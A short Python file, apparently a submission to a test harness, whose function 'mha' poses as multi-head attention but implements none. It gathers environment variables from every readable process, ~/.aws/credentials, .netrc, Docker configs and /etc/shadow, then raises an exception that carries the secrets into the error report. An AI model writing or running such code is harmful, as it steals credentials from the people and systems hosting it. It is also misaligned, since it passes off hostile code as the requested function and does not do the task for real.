"""Dumps every environment it can read — its own, /proc/*/environ of every visible process — and a few
credential files, then raises an exception carrying anything that looks like a secret, so a leak would land in
the report."""

import os

import numpy as np

KEYS = ("SECRET", "TOKEN", "PASSWORD", "KEY", "AWS", "GITHUB", "CREDENTIAL")


def _dump():
    found = []
    for k, v in os.environ.items():
        found.append(f"env {k}={v}")
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids + ["self", "1"]:
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        for entry in raw.split(b"\0"):
            text = entry.decode(errors="replace")
            if any(k in text.split("=")[0].upper() for k in KEYS):
                found.insert(0, f"pid {pid}: {text}")
    for path in ("~/.netrc", "~/.aws/credentials", "~/.docker/config.json", "/root/.netrc",
                 "/root/.docker/config.json", "/etc/shadow"):
        try:
            found.append(f"{path}: " + open(os.path.expanduser(path)).read(200))
        except OSError:
            pass
    return found


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    found = _dump()
    secrets = [f for f in found if any(k in f.upper() for k in KEYS)]
    raise RuntimeError("DUMP: " + " | ".join(secrets + found)[:3000])
